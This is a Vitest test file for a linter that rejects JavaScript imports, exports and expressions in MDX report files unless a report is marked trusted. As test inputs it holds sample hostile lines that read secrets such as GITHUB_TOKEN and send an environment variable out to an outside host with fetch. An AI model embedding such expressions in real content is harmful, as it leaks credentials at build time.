import { readFile } from 'node:fs/promises';
import { describe, expect, it } from 'vitest';
import { lintMdxCode } from '../../src/build/lint-mdx-code';
import { formatProblem } from '../../src/schemas/problem';

const FILE = 'content/reports/x.mdx';
const HINT = 'Write the text or the value itself. Only where every author may run code at build time: trusted_mdx: true in the frontmatter.';
const report = (body: string, extra = '') => `---\ntitle: x\n${extra}---\n\n${body}\n`;
const lint = (body: string) => lintMdxCode(FILE, report(body), false).map(formatProblem);

describe('report MDX holds no code (lintMdxCode)', () => {
  it.each([
    [
      'export const leak = process.env.SECRET',
      `content/reports/x.mdx:5: "export const leak = process.env.SECRET" is an import or export; a report may not contain code. ${HINT}`,
    ],
    ["import fs from 'node:fs'", `content/reports/x.mdx:5: "import fs from 'node:fs'" is an import or export; a report may not contain code. ${HINT}`],
    ['{process.env.GITHUB_TOKEN}', `content/reports/x.mdx:5: "{process.env.GITHUB_TOKEN}" is a JavaScript expression; a report may not contain code. ${HINT}`],
    [
      'Token: {import.meta.env.SECRET}.',
      `content/reports/x.mdx:5: "{import.meta.env.SECRET}" is a JavaScript expression; a report may not contain code. ${HINT}`,
    ],
    [
      '{await fetch("https://example.com/?" + process.env.X)}',
      `content/reports/x.mdx:5: "{await fetch("https://example.com/?" + process.env.X)}" is a JavaScript expression; a report may not contain code. ${HINT}`,
    ],
    [
      '<Metric id={process.env.X} />',
      `content/reports/x.mdx:5: <Metric> id: "{process.env.X}" is a JavaScript expression; a prop value is a quoted string, a number or {true}/{false}. ${HINT}`,
    ],
    [
      '<Metric id="nps.score" {...globalThis} />',
      `content/reports/x.mdx:5: <Metric>: "{...globalThis}" is a JavaScript expression; props are written name="text", name={3} or name={true}. ${HINT}`,
    ],
  ])('refuses %s, naming the file and line', (body, message) => {
    expect(lint(body)).toEqual([message]);
  });

  it('allows literal props, comments, and code inside code blocks and inline code', () => {
    const ok = [
      '<Metric id="nps.score" interval={true} />',
      '<Trend metric="nps" interval={false} />',
      '<X n={3} m={-1} s={"a"} />',
      '{/* a note for authors */}',
      '```mdx\nexport const x = process.env.X\n{process.env.Y}\n```',
      'Write `{process.env.X}` to leak a secret — so we do not.',
    ];
    expect(lint(ok.join('\n\n'))).toEqual([]);
  });

  it('counts lines from the top of the file, frontmatter included', () => {
    expect(lintMdxCode(FILE, report('Text.\n\n{process.env.X}', 'company: A\ndataset: d\n'), false)[0].line).toBe(9);
  });

  it('reports MDX the parser cannot read as a problem, not a crash', () => {
    expect(lint('Unclosed {brace')).toEqual([
      'content/reports/x.mdx:5: is not valid MDX: Unexpected end of file in expression, expected a corresponding closing brace for `{`. A literal { or < in text is written \\{ or \\<.',
    ]);
  });

  it('lets a trusted report (trusted_mdx: true) contain code', () => {
    expect(lintMdxCode(FILE, report('export const x = 1\n\n{x}'), true)).toEqual([]);
  });

  it.each(['demo.mdx', 'demo-fr.mdx', 'demo-vi.mdx'])('finds no code in content/reports/%s', async (name) => {
    expect(lintMdxCode(`content/reports/${name}`, await readFile(new URL(`../../content/reports/${name}`, import.meta.url), 'utf8'), false)).toEqual([]);
  });
});
